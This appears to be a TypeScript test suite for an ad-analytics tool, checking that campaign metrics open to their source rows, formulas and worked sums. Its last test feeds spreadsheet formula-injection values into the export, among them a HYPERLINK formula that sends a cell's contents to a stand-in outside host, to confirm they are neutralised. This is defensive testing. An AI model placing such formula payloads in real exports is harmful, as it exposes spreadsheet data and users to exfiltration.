import { describe, expect, test } from 'bun:test'
import { rowsOf } from '../../shared/audit/facts/rows-of'
import { exampleAnalysis } from '../../../test/web/analyses'
import { factEvidence, metricEvidence } from './evidence'
import { toPlainText, toSumText } from './evidence-text'
import { findShownColumns } from './file-rows'
import { toSumLines } from './sum-lines'

const analysis = await exampleAnalysis('campaign')
const copy = await exampleAnalysis('copy')
const video = await exampleAnalysis('video')

describe('evidence', () => {
  test('a count of rows is named after the rows', () => {
    const count = analysis.facts.find(
      ({ metric, subject }) => metric === 'segments' && subject === 'account',
    )!
    expect(factEvidence(analysis, count.id)).toMatchObject({ metric: 'Campaigns', shown: '11' })
  })

  test.each(['newPeopleRoas', 'newPeopleExcess'])(
    '%s opens to the spend and value that it adds up',
    (metric) => {
      const fact = analysis.facts.find((one) => one.metric === metric)!
      expect(factEvidence(analysis, fact.id)!.fields).toEqual(['spend', 'purchaseValue'])
    },
  )

  test('every fact opens, with its value as printed', () => {
    for (const fact of analysis.facts) {
      expect(factEvidence(analysis, fact.id)).toMatchObject({
        shown: fact.shown,
        rows: rowsOf(analysis, fact.id),
        of: { fact: fact.id },
      })
    }
    expect(factEvidence(analysis, 'nothing')).toBeNull()
  })

  test('a judged figure has its benchmark beside the figure of all rows, with what sets each', () => {
    const row = analysis.segments.find(({ label }) => label === 'Prospecting | Interests | Running')!
    const evidence = metricEvidence(analysis, row, 'roas')
    expect(evidence.benchmark).toMatchObject({
      shown: '2.43x',
      by: 'average without the far more expensive campaigns',
    })
    expect(evidence.compared).toEqual({
      label: 'ROAS of the sales group, expensive campaigns included',
      shown: '2.10x',
      relation: 'below',
    })
    expect(toPlainText(evidence)).toContain(
      'Benchmark: 2.43x, average without the far more expensive campaigns',
    )
    expect(metricEvidence(analysis, row, 'ctr').benchmark).toBeNull()
    expect(metricEvidence(analysis, null, 'roas').benchmark).toBeNull()
  })

  test('every figure of a segment has a worked sum, rows and totals', () => {
    for (const segment of analysis.segments) {
      const evidence = metricEvidence(analysis, segment, 'cpm')
      expect(evidence.formula).toBe('1,000 × spend ÷ impressions')
      expect(evidence.sum.map(({ op }) => op)).toEqual(['', '×', '÷'])
      expect(evidence.rows).toBe(segment.rows)
      expect(Object.keys(evidence.totals!)).toContain('impressions')
    }
  })

  test('every sum gives, on a calculator, the figure that it is of', () => {
    const read = (shown: string) => Number(shown.replaceAll(/[^\d.]/g, '')) / (shown.endsWith('%') ? 100 : 1)
    const wrong = analysis.facts.flatMap(({ id, shown, value }) => {
      const { sum } = factEvidence(analysis, id)!
      if (sum.length === 0 || value === null) return []
      const result = sum.reduce((total, line) => {
        const amount = read(line.shown)
        if (line.op === '×') return total * amount
        if (line.op === '÷') return total / amount
        return line.op === '−' ? total - amount : total + amount
      }, 0)
      const last = 10 ** -(/\.(\d+)/.exec(shown)?.[1]?.length ?? 0) / (shown.endsWith('%') ? 100 : 1)
      return Math.abs(result - read(shown)) <= last * 1.1 ? [] : [`${shown}: ${toSumText({ sum, shown })}`]
    })
    expect(wrong).toEqual([])
  })

  test('a benchmark is a sum of its rows, without a total of rows that would give another figure', () => {
    const fact = analysis.facts.find(({ metric }) => metric === 'benchmarkRoas')!
    const { sum, notes, formula, totals } = factEvidence(analysis, fact.id)!
    expect(notes.length).toBeGreaterThan(0)
    expect(formula).toBe('value per unit of spend of the healthy part of the group')
    const names = sum.map(({ label }) => label.replace(/, \d+% of it$/, ''))
    expect(sum.flatMap(({ label }) => (label.includes('% of it') ? label : []))).toEqual([
      'Catalog | Dynamic ads, 99% of it',
      'Prospecting | Lookalike 1% | Spring, 64% of it',
      'Prospecting | UGC test, 93% of it',
      'Prospecting | New markets, 56% of it',
    ])
    expect(names.every((name) => analysis.segments.some(({ label }) => label === name))).toBe(true)
    const shares = sum.map(({ factors }) => factors[0]!.value!)
    expect(shares.reduce((all, share) => all + share, 0)).toBeCloseTo(1, 9)
    expect(sum.length).toBeGreaterThan(2)
    expect(totals).toBeNull()
  })

  test('only of a benchmark that healthy rows set, it is said that an expensive row has no line', () => {
    const noteOf = (one: typeof analysis) => {
      const fact = one.facts.find(({ metric }) => metric === 'benchmarkRoas')!
      const { notes, formula } = factEvidence(one, fact.id)!
      return [formula, notes.includes('A row that certainly costs more has no line.')]
    }
    expect(noteOf(analysis)).toEqual(['value per unit of spend of the healthy part of the group', true])
    expect(noteOf(video)).toEqual(['value per unit of spend of the rows that count', false])
  })

  test('a price without the days of a dip says which result and which days', () => {
    const fact = analysis.facts.find(({ metric }) => metric === 'otherCost')!
    expect(factEvidence(analysis, fact.id)).toMatchObject({
      metric: 'Cost per Purchase without Oct 14 – 18, 2026',
      subject: 'the sales group',
      days: [
        { start: '2026-10-01', end: '2026-10-13' },
        { start: '2026-10-19', end: '2026-10-31' },
      ],
    })
  })

  test('a monthly amount is worked out from cents', () => {
    const monthly = analysis.facts.filter(({ metric }) => metric.startsWith('monthly'))
    expect(monthly.length).toBeGreaterThan(3)
    for (const { inputs = [] } of monthly) expect(inputs[0]!.shown).toMatch(/\.\d\d$/)
  })

  test('a drop in click rate has its first and last week beside it, and its days in order with their rate', () => {
    const fact = analysis.facts.find(({ metric }) => metric === 'rateDrop')!
    const { plain, fields } = factEvidence(analysis, fact.id)!
    expect(plain.map(({ shown }) => shown)).toEqual(['1.42%', '0.81%'])
    const [first, last] = plain.map(({ factId }) => factEvidence(analysis, factId!)!)
    expect(toSumText(first!)).toContain('396')
    expect(first!.rows).not.toBe(last!.rows)
    const { shown, main, rate, numeric } = findShownColumns(analysis.quality.columns, fields)
    const fieldOf = (column: number) => analysis.quality.columns[column]!.field
    expect(shown.map(fieldOf)).toEqual(['day', 'linkClicks', 'impressions'])
    expect([fieldOf(main), numeric.has(main)]).toEqual(['day', false])
    expect(rate!.map(fieldOf)).toEqual(['linkClicks', 'impressions'])
  })

  test('days on which all campaigns sold less open to their campaigns', () => {
    const fact = analysis.facts.find(({ metric }) => metric === 'dipRate')!
    const { shown, rate } = findShownColumns(
      analysis.quality.columns,
      factEvidence(analysis, fact.id)!.fields,
    )
    const fieldOf = (column: number) => analysis.quality.columns[column]!.field
    expect(shown.map(fieldOf)).toEqual(['day', 'campaignName', 'purchases', 'linkClicks'])
    expect(rate).toBeNull()
  })

  test('a figure of a funnel step opens to the column that it adds up, under its name and that of its row', () => {
    const opened = (metric: string) => {
      const { id } = analysis.facts.find((fact) => fact.metric === metric)!
      const evidence = factEvidence(analysis, id)!
      const { shown, main } = findShownColumns(analysis.quality.columns, evidence.fields)
      const fieldOf = (column: number) => analysis.quality.columns[column]!.field
      return [evidence.title, fieldOf(main), shown.map(fieldOf), evidence.totals![fieldOf(main)!]]
    }
    expect(opened('laterStep')).toEqual([
      'Landing page views · Catalog | Dynamic ads',
      'landingPageViews',
      ['campaignName', 'day', 'landingPageViews', 'linkClicks', 'spend'],
      '68',
    ])
    expect(opened('earlierStep').slice(0, 2)).toEqual(['Link clicks · Catalog | Dynamic ads', 'linkClicks'])
  })

  test('no panel shows the engine’s own name of its subject', () => {
    for (const { id } of analysis.facts)
      expect(factEvidence(analysis, id)!.subject).not.toMatch(/^(?:trust|group|action):|^[ISTA]\d+$/)
  })

  test('a number of rows opens to their names and spend, a place says among how many', () => {
    const count = analysis.facts.find(
      ({ metric, subject }) => metric === 'segments' && subject === 'account',
    )!
    const { plain, formula, fields } = factEvidence(analysis, count.id)!
    expect([plain.length, formula, fields[0]]).toEqual([11, null, 'spend'])
    expect(plain[0]).toMatchObject({ label: 'Advantage+ Shopping', shown: '$3,822.52' })
    const best = analysis.facts.find(({ metric, rank }) => metric === 'roas' && rank?.place === 1)!
    expect(factEvidence(analysis, best.id)!.rank).toBe('1 of the 8 with enough data, by ROAS')
  })

  test('beside the names there are three columns of figures', () => {
    const { shown, numeric } = findShownColumns(analysis.quality.columns, ['spend'])
    expect(shown.filter((column) => numeric.has(column))).toHaveLength(3)
  })

  test('the money of the headline and its spend are sums of rows, each of which opens', () => {
    for (const metric of ['bridgeSureOn', 'spend']) {
      const fact = analysis.facts.find((one) => one.subject === 'account' && one.metric === metric)!
      const { sum } = factEvidence(analysis, fact.id)!
      expect(sum.length).toBeGreaterThan(1)
      expect(sum.slice(0, 2).every(({ factId }) => analysis.facts.some(({ id }) => id === factId))).toBe(true)
      const cents = sum.reduce((total, { shown }) => total + Number(shown.replace(/[^\d]/g, '')), 0)
      expect(cents).toBe(Math.round(fact.value! * 100))
    }
  })

  test('the formula is that of exactly this figure, with its numbers', () => {
    const of = (metric: string) => {
      const { id } = analysis.facts.find((one) => one.subject === 'account' && one.metric === metric)!
      return factEvidence(analysis, id)!
    }
    expect(of('bridgeAtPrice')).toMatchObject({ formula: 'purchase value ÷ benchmark ROAS', worked: null })
    const { worked, shown, ...line } = of('bridgeSureOn')
    expect(worked).toMatch(/^Spend \$[\d,.]+ − \(Purchase value \$[\d,.]+ ÷ Benchmark ROAS [\d.]+x\)$/)
    expect(toPlainText({ ...line, worked, shown })).toContain(`${worked} = ${shown}\n`)
    const [spend, value, roas] = worked!.match(/[\d,.]+\d/g)!.map((n) => Number(n.replaceAll(',', '')))
    expect(spend! - value! / roas!).toBeCloseTo(Number(shown.replaceAll(/[$,]/g, '')), 1)
  })

  test('the money of a decision is worked out from the findings that it answers', () => {
    const decision = copy.actions.find(({ segmentIds }) => segmentIds!.length > 1)!
    const fact = copy.facts.find(({ subject, metric }) => subject === decision.id && metric === 'excess')!
    const { sum } = factEvidence(copy, fact.id)!
    const ofRows = decision.findings.flatMap(
      (finding) =>
        copy.facts.find(({ subject, metric }) => subject === finding && metric === 'excess')?.id ?? [],
    )
    expect(ofRows.length).toBeGreaterThan(1)
    expect(sum.map(({ factId }) => factId)).toEqual(ofRows)
  })

  test('the money of a decision with one finding is worked out as in that finding, under the name of its row', () => {
    const decision = analysis.actions.find(({ excess }) => excess !== undefined)!
    const of = (subject: string) =>
      factEvidence(
        analysis,
        analysis.facts.find((fact) => fact.subject === subject && fact.metric === 'excess')!.id,
      )!
    const [{ sum, formula, rows, shown }, own] = [of(decision.findings[0]!), of(decision.id)]
    expect(own).toMatchObject({ sum, formula, rows, shown })
    expect(own.formula).toContain('benchmark')
    expect(own.subject).toContain(analysis.segments.find(({ id }) => id === decision.segmentIds![0])!.label)
  })

  test('money paid on top is spend without what its results cost at the benchmark', () => {
    const excess = analysis.facts.find(({ metric }) => metric === 'excess')!
    const { sum, shown } = factEvidence(analysis, excess.id)!
    expect(sum).toHaveLength(2)
    expect(sum[1]).toMatchObject({ op: '−', factors: [{ op: '−' }, { op: '÷' }] })
    expect(toSumText({ sum, shown })).toMatch(/^Spend \$[\d.,]+ − .+ \$[\d.,]+ ÷ [\d.]+x = \$[\d.,]+ = \$/)
  })

  test('the largest of many parts are named, the rest is one line', () => {
    const inputs = Array.from({ length: 20 }, (_, index) => ({
      label: `Ad ${index}`,
      shown: `$${index + 1}.00`,
      value: index + 1,
      ...(index > 0 && { op: '+' as const }),
    }))
    const lines = toSumLines(inputs, 'money', 'USD')
    expect(lines).toHaveLength(9)
    expect(lines[0]).toMatchObject({ op: '', label: 'Ad 19', shown: '$20.00' })
    expect(lines[8]).toMatchObject({ op: '+', label: '12 more', shown: '$78.00' })
  })

  test('the figures behind one of an earlier version are named, not worked out', () => {
    const lines = toSumLines(
      [
        { label: 'Spend', shown: '$10.00' },
        { label: 'Purchases', shown: '2' },
      ],
      'money',
      'USD',
    )
    expect(lines.map(({ op }) => op)).toEqual(['', ''])
  })

  test('a figure of the whole file rests on all of its rows', () => {
    const evidence = metricEvidence(analysis, null, 'ctr')
    expect(evidence.title).toBe('CTR · the whole file')
    expect(evidence.rows).toBe('2-318')
    expect(evidence.fields).toEqual(['linkClicks', 'impressions'])
    expect(evidence.totals!.linkClicks).toBe('19,201')
  })

  test('a line of the bridge names how many rows it adds up; an account is no file', () => {
    const line = (metric: string) => analysis.facts.find((fact) => fact.metric === metric)!
    expect(factEvidence(analysis, line('bridgeSureOn').id)!.title).toMatch(/ · ⁨?2 campaigns⁩?$/u)
    expect(metricEvidence({ ...analysis, files: [] }, null, 'ctr').title).toMatch(/the whole account/)
  })

  test('as text it can be checked without us', () => {
    const text = toPlainText(metricEvidence(analysis, null, 'roas'), {
      headers: ['Campaign', 'Spend'],
      rows: [{ row: 2, cells: ['A\tB\nC', '10'] }],
    })
    expect(text).toContain('ROAS · the whole file: 1.96x')
    expect(text).toContain('Formula: purchase value ÷ spend')
    expect(text).toEndWith('Row\tCampaign\tSpend\n2\tA B C\t10')
    const rows = '4-244/10,255-310,400'
    expect(toPlainText({ ...metricEvidence(analysis, null, 'roas'), rows })).toContain(
      ': 4-244 in steps of 10, 255-310, 400',
    )
  })
})

test('text to paste into a sheet runs nothing there', () => {
  const cells = ['=HYPERLINK("https://elsewhere.example?"&A1)', '+1+cmd', '@sum(A1)', '-12.5', '-2+3|x']
  const text = toPlainText(
    { ...metricEvidence(analysis, null, 'roas'), title: '=1+1' },
    { headers: ['=now()', 'Spend'], rows: [{ row: 2, cells }] },
  )
  for (const line of text.split('\n'))
    for (const cell of line.split('\t')) expect(cell).toMatch(/^(?![=+@])(?!-(?![\d.]+$))/)
  expect(text).toEndWith(`\t'-2+3|x`)
  expect(text).toContain('\t-12.5\t')
})
